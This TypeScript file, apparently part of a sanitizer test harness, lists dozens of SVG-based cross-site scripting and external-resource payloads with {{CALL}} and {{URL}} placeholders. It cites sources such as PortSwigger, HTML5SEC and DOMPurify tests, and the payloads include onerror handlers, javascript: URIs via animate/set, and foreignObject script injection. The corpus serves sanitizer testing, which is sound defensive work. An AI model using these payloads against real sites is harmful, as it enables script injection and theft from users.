import { category } from './payload';
import { DOMPURIFY_TESTS, HTML5SEC, LXML, own, PORTSWIGGER, WHATWG } from './sources';

/** SVG: its own scripts, links, animations and references. */
export const SVG = category('svg', [
  [
    PORTSWIGGER,
    {
      'use-external': '<svg><use href="{{URL}}#x"></use></svg>',
      'use-xlink-external': '<svg><use xlink:href="{{URL}}#x" /></svg>',
      'foreign-object-image': '<svg><foreignObject><img src=x: onerror={{CALL}}></foreignObject></svg>',
      'foreign-object-iframe':
        '<svg><foreignObject width=9 height=9><iframe srcdoc="<script>{{CALL}}</script>"></iframe></foreignObject></svg>',
      'animate-xlink-to-script':
        '<svg><animate xlink:href=#x attributeName=href values="javascript:{{CALL}}"/><a id=x><text y=9>a</text></a></svg>',
      'animate-keytimes':
        '<svg><animate xlink:href=#y attributeName=href dur=5s repeatCount=indefinite keytimes=0;0;1 values="#;javascript:{{CALL}};#"/><a id=y><text y=9>a</text></a></svg>',
      'set-onload': '<svg><set attributeName=onload to="{{CALL}}"/></svg>',
      'animate-onmouseover':
        '<svg><rect width=99 height=99><set attributeName=onmouseover to="{{CALL}}"/></rect></svg>',
      'image-external': '<svg><image href="{{URL}}" width=9 height=9 /></svg>',
      'image-xlink': '<svg><image xlink:href="{{URL}}" width=9 height=9 /></svg>',
      'fe-image':
        '<svg><filter id=f><feImage href="{{URL}}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>',
      'discard-begin': '<svg><discard onbegin={{CALL}} begin=0s></discard></svg>',
      'title-breakout': '<svg><title><img src=x: onerror={{CALL}}></title></svg>',
      'desc-breakout': '<svg><desc><img src=x: onerror={{CALL}}></desc></svg>',
      'style-in-svg': '<svg><style>@import "{{URL}}";*{background:url({{URL}})}</style></svg>',
    },
  ],
  [
    HTML5SEC,
    {
      'handler-element':
        '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>{{CALL}}</handler></svg>',
      'listener-element':
        '<svg><listener event=load handler="javascript:{{CALL}}" observer=x /><g id=x /></svg>',
      'font-face-uri':
        '<svg><font-face><font-face-src><font-face-uri xlink:href="{{URL}}"/></font-face-src></font-face></svg>',
      'tref-external': '<svg><text><tref xlink:href="{{URL}}#x"/></text></svg>',
      altglyph: '<svg><text><altGlyph xlink:href="{{URL}}#x">a</altGlyph></text></svg>',
      'cursor-element':
        '<svg><cursor id=c xlink:href="{{URL}}"/><rect cursor="url(#c)" width=9 height=9 /></svg>',
      'color-profile': '<svg><color-profile name=p xlink:href="{{URL}}"/></svg>',
      onzoom: '<svg onzoom={{CALL}} onunload={{CALL}} onscroll={{CALL}}><g/></svg>',
      'script-cdata': '<svg><script><![CDATA[{{CALL}}]]></script></svg>',
      'script-href-mixed': '<svg><script xlink:href="data:,{{CALL}}" href="{{URL}}"/></svg>',
      'entity-in-script': '<svg><script>&#123;{{CALL}}&#125;</script></svg>',
      'mpath-external': '<svg><g><animateMotion><mpath xlink:href="{{URL}}#p"/></animateMotion></g></svg>',
      'text-path-external': '<svg><text><textPath href="{{URL}}#p">a</textPath></text></svg>',
    },
  ],
  [
    DOMPURIFY_TESTS,
    {
      'nested-svg-onload': '<svg><svg onload={{CALL}}></svg></svg>',
      'template-inside': '<svg><template><img src=x: onerror={{CALL}}></template></svg>',
      'comment-in-style': '<svg><style><!--</style><img src=x: onerror={{CALL}}>--></style></svg>',
      'desc-style': '<svg><desc><style></style><img src=x: onerror={{CALL}}></desc></svg>',
    },
  ],
  [
    own(`${LXML}; ${WHATWG}`),
    {
      'fill-url': '<svg><rect fill="url({{URL}}#g)" width=9 height=9 /></svg>',
      'mask-url': '<svg><rect mask="url({{URL}}#m)" clip-path="url({{URL}}#c)" width=9 height=9 /></svg>',
      'marker-url': '<svg><path d="M0 0L9 9" marker-end="url({{URL}}#m)" stroke=black /></svg>',
      'filter-url': '<svg><g filter="url({{URL}}#f)"><rect width=9 height=9 /></g></svg>',
      'pattern-href': '<svg><pattern id=p href="{{URL}}#p"/><rect fill="url(#p)" width=9 height=9 /></svg>',
      'gradient-href':
        '<svg><linearGradient id=g href="{{URL}}#g"/><rect fill="url(#g)" width=9 height=9 /></svg>',
      'link-element': '<svg><link xmlns="http://www.w3.org/1999/xhtml" rel=stylesheet href="{{URL}}"/></svg>',
      'audio-inside':
        '<svg><foreignObject><audio src="{{URL}}" autoplay onerror={{CALL}}></audio></foreignObject></svg>',
      'begin-by-event':
        '<svg><rect id=r width=9 height=9><animate begin="r.mouseover" onbegin={{CALL}} attributeName=x dur=1s /></rect></svg>',
      'switch-branch':
        '<svg><switch><g systemLanguage=en onload={{CALL}}></g><foreignObject><img src=x: onerror={{CALL}}></foreignObject></switch></svg>',
      'symbol-use': '<svg><symbol id=s><image href=x: onerror={{CALL}} /></symbol><use href="#s"/></svg>',
      'view-link': '<svg><view id=v viewTarget="{{URL}}"/><a href="#v"><text y=9>a</text></a></svg>',
      'metadata-html': '<svg><metadata><img src=x: onerror={{CALL}}></metadata></svg>',
    },
  ],
]);
